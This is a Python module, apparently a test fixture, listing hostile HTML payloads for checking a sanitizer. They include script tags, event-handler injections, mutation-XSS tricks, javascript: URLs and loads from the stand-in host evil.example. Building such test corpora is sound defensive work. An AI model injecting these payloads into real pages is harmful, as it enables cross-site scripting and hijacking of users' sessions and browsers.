"""Markup by which a page may try to run, load, send or style something where it is shown."""

from __future__ import annotations

_ATTRIBUTES = (
    "onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter".split()
)
_TAGS = "img svg body input details video audio math marquee".split()
_URLS = [
    "javascript:hacked=1",
    "JaVaScRiPt:hacked=1",
    "java\tscript:hacked=1",
    "&#106;avascript:hacked=1",
    "data:text/html,<script>hacked=1</script>",
    "vbscript:hacked",
    "http://evil.example/x",
    "//evil.example/x",
]

#: Each is a part of a page's body, or a whole page.
HOSTILE: list[str] = [
    "<script>hacked=1</script>",
    "<scr<script>ipt>hacked=1</script>",
    "<script src=http://evil.example/x.js></script>",
    "<svg><script>hacked=1</script></svg>",
    "<svg><style><img src=x onerror=hacked=1></style></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x></svg>",
    "<svg><use href=http://evil.example/x.svg#a /></svg>",
    "<svg><foreignObject><iframe src=javascript:hacked=1></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=hacked=1></style></math>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'></noscript>",
    "<template><script>hacked=1</script></template>",
    "<textarea></textarea><img src=x onerror=hacked=1></textarea>",
    "<title></title><img src=x onerror=hacked=1></title>",
    "<style>* { background: url(http://evil.example/x) }</style>",
    "<style>@import url(http://evil.example/x.css); body { display: none }</style>",
    "<p style='position:fixed;inset:0;background:url(http://evil.example/x)'>covered</p>",
    "<link rel=stylesheet href=http://evil.example/x.css><link rel=prefetch href=http://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=http://evil.example/ target=_top><a href=x>away</a>",
    "<iframe src=http://evil.example/></iframe><iframe srcdoc='<script>hacked=1</script>'></iframe>",
    "<frameset><frame src=http://evil.example/></frameset>",
    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    "<form action=http://evil.example/><input name=a autofocus><button formaction=javascript:hacked=1>b",
    "<video src=http://evil.example/x poster=http://evil.example/y><track src=http://evil.example/z></video>",
    "<picture><source srcset=http://evil.example/x><img srcset='http://evil.example/y 2x' alt=p></picture>",
    "<a href=http://evil.example/ target=_top ping=http://evil.example/>away</a>",
    "<a href='http://evil.example/' download>x</a>",
    "<table background=http://evil.example/x><td background=http://evil.example/y>cell</table>",
    "</div></body></html><script>hacked=1</script>",
    "'\"></iframe><script>hacked=1</script>",
    "&lt;/iframe&gt;&lt;script&gt;hacked=1&lt;/script&gt;",
    "&quot;&gt;&lt;img src=x onerror=hacked=1&gt;",
    "<p>\u202e\u2066 turned \u2069</p>",
    "<p>\x00\x1b[2J\ufffe\uffff</p>",
    "<!--><img src=x onerror=hacked=1>-->",
    "<![CDATA[<script>hacked=1</script>]]>",
    "<xmp><script>hacked=1</script></xmp><plaintext><script>hacked=1</script>",
    "<p id=search class='run main'>named like ours</p><p id=found>x</p>",
    "<div class='legend' hidden>x</div>",
    "<p>" + "long " * 20_000,
    "<div>" * 300 + "deep",
    *(f"<{tag} src=x {name}=hacked=1 autofocus open>" for tag, name in zip(_TAGS, _ATTRIBUTES, strict=True)),
    *(f'<p><a href="{url}">link</a> <img src="{url}" alt=p></p>' for url in _URLS),
]
